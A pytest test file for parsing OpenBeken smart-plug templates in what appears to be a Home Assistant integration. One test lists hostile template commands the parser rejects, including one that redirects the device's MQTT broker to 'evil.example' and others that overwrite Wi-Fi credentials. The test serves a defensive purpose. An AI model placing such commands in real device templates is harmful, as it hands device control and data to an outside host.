"""OpenBeken's templates of devices."""

import json

import pytest

from custom_components.openbk.pyopenbk.obk.templates import (
    NoteKind,
    TemplateError,
    TemplateNote,
    bits,
    parse_template,
)
from custom_components.openbk.pyopenbk.profile import PinAssignment
from custom_components.openbk.pyopenbk.roles import PinRole
from tests.reference import published_plugs

TEMPLATE = """{
  "vendor": "BLOW",
  "bDetailed": "0",
  "name": "Smart socket",
  "model": "72-074",
  "chip": "BK7231N",
  "board": "CB2S",
  "flags": "1024",
  "pins": {
    "6": "BL0937CF1;0",
    "7": "BL0937CF;0",
    "8": "WifiLED_n;0",
    "10": "LED_n;1",
    "11": "Btn;1;4",
    "24": "BL0937SEL;0",
    "26": "Rel;1"
  },
  "command": ""
}"""


def pins_of(pins: dict[str, str]) -> tuple[PinAssignment, ...]:
    """Return the pins of a template that has nothing else."""
    return parse_template(json.dumps({"pins": pins})).profile.pins


def test_a_template_is_read() -> None:
    """With its pins, its chip and its names."""
    template = parse_template(TEMPLATE)
    assert template.chip == "BK7231N"
    assert template.name == "Smart socket"
    assert template.profile.module == "CB2S"
    assert template.profile.problems == ()
    assert template.profile.buttons == (
        PinAssignment(pin=11, role=PinRole.BTN, channel=1, channel2=4),
    )
    assert template.profile.has_meter
    assert template.flags == 1 << 10
    assert template.notes == ()


def test_text_around_it_does_not_count() -> None:
    """People copy a word too much."""
    text = f"My template:\n```json\n{TEMPLATE}\n```\nworks fine"
    assert parse_template(text) == parse_template(TEMPLATE)


@pytest.mark.parametrize(
    ("use", "expected"),
    [
        ("WiFILED_n;0", (PinRole.WIFI_LED_N, 0)),
        ("WifiLED_n ; 0", (PinRole.WIFI_LED_N, 0)),
        ("Rel", (PinRole.REL, 0)),
        ("rel; 39 ", (PinRole.REL, 39)),
        ("Btn;", (PinRole.BTN, 0)),
        ("BL0937CF;77", (PinRole.BL0937CF, 0)),
        ("BL0937SEL;1", (PinRole.BL0937SEL, 0)),
    ],
)
def test_the_spellings_of_published_templates_are_forgiven(
    use: str, expected: tuple[PinRole, int]
) -> None:
    """Case, blanks, channels where none belong."""
    (pin,) = pins_of({"9": use})
    assert (pin.role, pin.channel) == expected


@pytest.mark.parametrize(
    ("pin", "use", "note"),
    [
        ("5", "Relay;1", TemplateNote(kind=NoteKind.UNKNOWN_ROLE, about="P5 Relay")),
        ("05", " SCL ;1", TemplateNote(kind=NoteKind.UNKNOWN_ROLE, about="P5 SCL")),
        ("29", "Rel;1", TemplateNote(kind=NoteKind.NO_PIN, about="29")),
        ("P5", "Rel;1", TemplateNote(kind=NoteKind.NO_PIN, about="P5")),
        ("x" * 99, "Rel;1", TemplateNote(kind=NoteKind.NO_PIN, about="x" * 32)),
        ("5", 1, TemplateNote(kind=NoteKind.NO_PIN, about="5")),
        ("5", "Rel;one", TemplateNote(kind=NoteKind.BAD_CHANNEL, about="P5 Rel;one")),
        ("5", "Rel;64", TemplateNote(kind=NoteKind.BAD_CHANNEL, about="P5 Rel;64")),
    ],
)
def test_a_pin_that_cannot_be_read_is_named_and_left_out(
    pin: str, use: object, note: TemplateNote
) -> None:
    """One of them does not cost the others."""
    template = parse_template(json.dumps({"pins": {"26": "Rel;1", pin: use}}))
    assert template.profile.pins == pins_of({"26": "Rel;1"})
    assert template.notes == (note,)


def test_a_pin_with_two_uses_is_named() -> None:
    """No text may cost a relay without a word; the web application takes the last one, too."""
    text = '{"pins":{"26":"Rel;1","24":"Rel;2","26":"Btn;1","24":"Rel;2"}}'
    template = parse_template(text)
    assert [pin.role for pin in template.profile.pins] == [PinRole.REL, PinRole.BTN]
    assert template.notes == (TemplateNote(kind=NoteKind.NAMED_TWICE, about="26"),)
    twice = parse_template('{"pins":{"26":"Rel;1"},"pins":{"24":"Rel;1"}}')
    assert twice.notes == (TemplateNote(kind=NoteKind.NAMED_TWICE, about="pins"),)


def test_another_chip_is_named() -> None:
    """The same board may be sold with it."""
    for chip, notes in (
        ("BK7231N", ()),
        ("bk7231n ", ()),
        ("BK7231T", (TemplateNote(kind=NoteKind.OTHER_CHIP, about="BK7231T"),)),
    ):
        text = json.dumps({"chip": chip, "pins": {"26": "Rel;1"}})
        assert parse_template(text).notes == notes


@pytest.mark.parametrize(
    "board", ["CB2S\ud800", "x" * 33, "ż" * 17, "CB\n2S", "\x1b[0m"]
)
def test_a_module_that_cannot_be_one_is_left_out(board: str) -> None:
    """Home Assistant could not save it, or nobody read it."""
    template = parse_template(json.dumps({"board": board, "pins": {"26": "Rel;1"}}))
    assert template.profile.module is None
    assert [note.kind for note in template.notes] == [NoteKind.ODD_MODULE]


@pytest.mark.parametrize(
    ("command", "kept"),
    [
        (None, ""),
        ("", ""),
        ("  PowerSave 1 ", "PowerSave 1"),
        (
            "startDriver NTP\r\nntp_timeZoneOfs  13",
            "startDriver NTP\nntp_timeZoneOfs  13",
        ),
        (
            "addChangeHandler Channel1 == 1 addRepeatingEvent 0.5 1 setChannel 1 0",
            "addChangeHandler Channel1 == 1 addRepeatingEvent 0.5 1 setChannel 1 0",
        ),
    ],
)
def test_the_command_of_a_template_is_kept(command: object, kept: str) -> None:
    """It is a program: nothing in it is changed."""
    template = parse_template(json.dumps({"pins": {"26": "Rel;1"}, "command": command}))
    assert template.command == kept
    assert template.notes == ()


@pytest.mark.parametrize(
    "command",
    [
        5,
        ["a"],
        "x" * 1600,
        "echo \ud800",
        "echo \x00",
        "backlog MqttHost evil.example; MqttPassword x",
        "SSID1 mine",
        "Password1 secret",
    ],
    ids=lambda value: repr(value)[:30],
)
def test_a_command_that_nobody_should_take_over_is_left_out(command: object) -> None:
    """It is said, with its beginning."""
    template = parse_template(json.dumps({"pins": {"26": "Rel;1"}, "command": command}))
    assert template.command == ""
    assert [note.kind for note in template.notes] == [NoteKind.ODD_COMMAND]
    assert len(template.notes[0].about) <= 32


@pytest.mark.parametrize(
    ("flags", "kept", "kinds"),
    [
        ("1024", 1 << 10, []),
        (1024, 1 << 10, []),
        ("0", 0, []),
        (None, 0, []),
        # Telemetry as Tasmota sends it is what nobody wants here.
        ("1073742848", 1 << 10, [NoteKind.UNWANTED_FLAGS]),
        ("18446744073709551615"[:19], None, [NoteKind.UNWANTED_FLAGS]),
        ("9" * 5000, 0, [NoteKind.ODD_FLAGS]),
        ("-1", 0, [NoteKind.ODD_FLAGS]),
        ("many", 0, [NoteKind.ODD_FLAGS]),
        (True, 0, [NoteKind.ODD_FLAGS]),
        ([1], 0, [NoteKind.ODD_FLAGS]),
    ],
    ids=lambda value: repr(value)[:24],
)
def test_the_flags_of_a_template_are_kept(
    flags: object, kept: int | None, kinds: list[NoteKind]
) -> None:
    """But for those that would keep Home Assistant from hearing the socket."""
    template = parse_template(json.dumps({"pins": {"26": "Rel;1"}, "flags": flags}))
    assert [note.kind for note in template.notes] == kinds
    if kept is not None:
        assert template.flags == kept
    assert 30 not in bits(template.flags)
    assert template.flags < 1 << 52


@pytest.mark.parametrize(
    "pins",
    [
        {"29": "Rel;1"},
        {"P26": "Rel;1"},
        {"-1": "Rel;1"},
        {"26": 1},
        {"26": None},
        {"26": "Rel;one"},
        {"26": "Rel;64"},
        {"26": "Rel;-1"},
        {},
    ],
)
def test_a_template_without_any_readable_pin_is_refused(
    pins: dict[str, object],
) -> None:
    """There would be nothing left."""
    with pytest.raises(TemplateError):
        parse_template(json.dumps({"pins": pins}))


@pytest.mark.parametrize(
    "text",
    ["", "hello", "{", "}{", "{}", "[]", '{"pins": []}', '{"pins": "26"}', "[" * 9999],
)
def test_other_texts_are_refused(text: str) -> None:
    """A template has pins."""
    with pytest.raises(TemplateError):
        parse_template(text)


def test_published_templates_are_read() -> None:
    """72 plugs with a meter, one with two pins that meter the same."""
    devices = published_plugs()
    assert len(devices) == 72
    left_out = 0
    for device in devices:
        template = parse_template(json.dumps(device))
        unknown = [n for n in template.notes if n.kind is NoteKind.UNKNOWN_ROLE]
        assert len(template.profile.pins) + len(unknown) == len(device["pins"])
        assert template.profile.problems == ()
        left_out += len(unknown)
    assert left_out <= 4
